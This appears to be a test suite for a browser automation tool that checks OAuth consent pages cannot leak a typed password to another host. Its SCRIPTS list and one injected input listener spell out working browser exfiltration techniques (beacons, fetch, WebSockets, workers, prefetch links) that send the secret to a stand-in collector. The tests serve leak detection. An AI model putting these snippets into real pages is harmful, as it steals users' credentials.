import { expect, foreign, test, walkFrom } from './browser-test.ts'
import { USER } from './consent-pages.ts'
import {
  collector,
  FIELD,
  focus,
  pagesWith,
  redirectUri,
  SECRET,
  sending,
  submit,
  variables,
  WAYS,
  worded,
} from './egress-pages.ts'
import { page, to } from './service.ts'

for (const [what, alter, says, instead] of WAYS)
  test(`${what} leads nothing that was typed to another host`, async ({ hasty, service }) => {
    const sent: string[] = []
    const abroad = foreign(await service(collector(sent)))
    const own = await service(pagesWith(alter, () => abroad, instead?.(abroad)))
    const { failure } = await hasty.walk(walkFrom(own, { redirectUri, variables }))
    expect(failure?.reason).toMatch(worded(says, own, abroad))
    expect(failure?.reason).toContain('ALLOWED_HOSTS=http://localhost')
    expect(sent).toEqual([])
    expect(JSON.stringify(failure)).not.toContain(SECRET)
  })

test('a page that goes on once its field has the focus gets nothing typed on its next page', async ({
  hasty,
  service,
}) => {
  const typed: string[] = []
  const next = page('Sign in', FIELD).replace(
    '</label>',
    '</label><script>addEventListener("input", ({ target }) => fetch("/typed", { method: "POST", body: target.value }))</script>',
  )
  const own = await service(
    pagesWith(
      (html) => focus("location.href = '/next'")(html),
      () => '',
      {
        '/next': () => next,
        '/typed': ({ body }) => {
          typed.push(body)
          return ''
        },
      },
    ),
  )
  const { failure } = await hasty.walk(walkFrom(own, { redirectUri, variables }))
  expect(failure).toBeDefined()
  expect(typed.join()).not.toContain(SECRET)
})

test('what goes wrong after a document of a frame was stopped is blocked by that, and not the fault of the page', async ({
  hasty,
  service,
}) => {
  const abroad = foreign(await service(() => page('Confirm', '<button>Confirm</button>')))
  const own = await service(
    pagesWith(
      (html) => html,
      () => abroad,
      { 'POST /consent': () => page('One more thing', `<iframe src="${abroad}/confirm"></iframe>`) },
    ),
  )
  const { failure } = await hasty.walk(walkFrom(own, { redirectUri, variables }))
  expect(failure).toMatchObject({ kind: 'blocked' })
  expect(failure?.reason).toMatch(
    worded('GET ABROAD for a frame was not sent from the page at OWN', own, abroad),
  )
})

test('the redirect of a pop-up does not reach the application', async ({ session, service }) => {
  const client = await service(() => 'the client')
  const callback = `${foreign(client)}/callback`
  const own = await service(({ path }) =>
    path === '/authorize'
      ? page('Welcome', '<button onclick="window.open(\'/on\')">Sign in</button>')
      : to(`${callback}?code=c1&state=s1`),
  )
  const journeys = { signIn: { steps: [{ click: { role: 'button', name: 'Sign in' } }] } }
  const walk = await session.walk(walkFrom(own, { redirectUri: callback, journeys }))
  expect(walk.redirect).toBe(`${callback}?code=c1&state=s1`)
  expect(walk.strays).toBeUndefined()
  expect(client.visits).toEqual([])
})

/** Ways of a script to send what was typed while the walk goes on; each is a promise of its end. */
const SCRIPTS: readonly ((abroad: string) => string)[] = [
  (abroad) =>
    `navigator.sendBeacon('${abroad}/b', new Blob([JSON.stringify({ pw })])); await fetch('/settled')`,
  (abroad) =>
    `await fetch('${abroad}/f', { method: 'POST', mode: 'no-cors', body: 'x=' + encodeURIComponent(pw) })`,
  (abroad) =>
    `await new Promise((end) => { Object.assign(new Image(), { onerror: end, onload: end, src: '${abroad}/i?' + btoa('x' + pw) }) })`,
  (abroad) => `await fetch('${abroad}/h', { headers: { 'x-pw': pw } })`,
  () => "await fetch('/on', { method: 'POST', body: pw })",
  (abroad) =>
    `const code = "fetch('${abroad}/w', { method: 'POST', mode: 'no-cors', body: '" + pw + "' }).finally(() => postMessage(1))"
     const worker = new Worker(URL.createObjectURL(new Blob([code])))
     await new Promise((end) => { worker.onmessage = end })`,
  (abroad) => `await new Promise((end) => { new WebSocket('${abroad}/ws?x=' + pw).onerror = end })`,
  (abroad) =>
    `const code = "new WebSocket('${abroad}/ws?x=" + pw + "').onerror = () => postMessage(1)"
     const worker = new Worker(URL.createObjectURL(new Blob([code])))
     await new Promise((end) => { worker.onmessage = end })`,
  (abroad) =>
    `await new Promise((end) => { const link = document.createElement('link')
       document.head.append(Object.assign(link, { rel: 'prefetch', href: '${abroad}/link?x=' + pw, onerror: end, onload: end })) })`,
  (abroad) =>
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '${abroad}/frame' })); await fetch('/settled')`,
]

test('what scripts send of what was typed is stopped and named, and the walk goes on', async ({
  session,
  service,
}) => {
  const sent: string[] = []
  const abroad = foreign(await service(collector(sent)))
  const script = SCRIPTS.map((send) => `try { ${send(abroad)} } catch {}`).join('\n')
  const own = await service(
    pagesWith(sending(script), () => abroad, {
      '/on': () => to(`${abroad}/on`, 307, { 'access-control-allow-origin': '*' }),
    }),
  )
  const walk = await session.walk(walkFrom(own, { redirectUri, variables }))
  expect(walk.redirect).toBe(`${redirectUri}?code=c1&state=s1`)
  expect(sent.filter((line) => !line.startsWith('OPTIONS'))).toEqual([])
  const { strays = [] } = walk
  expect(strays.length).toBeGreaterThanOrEqual(SCRIPTS.length)
  for (const { is, from, to, carries } of strays) {
    expect([from, new URL(to).host]).toEqual([own.origin, new URL(abroad).host])
    expect(carries).toEqual(
      is === 'frame' ? [] : [expect.stringMatching(/^<consent_password#[0-9a-f]{10}>$/)],
    )
  }
  expect(JSON.stringify(walk)).not.toContain(SECRET)
})

test('what a page loads from other hosts without what was typed comes', async ({ session, service }) => {
  const sent: string[] = []
  const abroad = foreign(await service(collector(sent)))
  const own = await service(
    pagesWith(
      (html) => `${html}<link rel="stylesheet" href="${abroad}/style.css?v=1"><img src="${abroad}/logo.png">`,
      () => abroad,
    ),
  )
  const walk = await session.walk(walkFrom(own, { redirectUri, variables }))
  expect(walk.redirect).toContain('code=c1')
  expect(walk.strays).toBeUndefined()
  expect(sent.map((line) => line.split(' ')[1]).sort()).toEqual(['/logo.png', '/style.css?v=1'])
})

test('a value that is short is found in what is sent, and not taken for a word of an address', async ({
  session,
  service,
}) => {
  const sent: string[] = []
  const abroad = foreign(await service(collector(sent)))
  const own = await service(
    pagesWith(
      (html) =>
        `${submit(`navigator.sendBeacon('${abroad}/b', 'pin=' + pw)`)(html)}<img src="${abroad}/4711/logo.png">`,
      () => abroad,
    ),
  )
  const short = { ...USER, CONSENT_PASSWORD: '4711' }
  const walk = await session.walk(walkFrom(own, { redirectUri, variables: short }))
  expect(walk.strays).toMatchObject([{ method: 'POST', carries: [expect.any(String)] }])
  expect(sent).toEqual(['GET /4711/logo.png '])
})
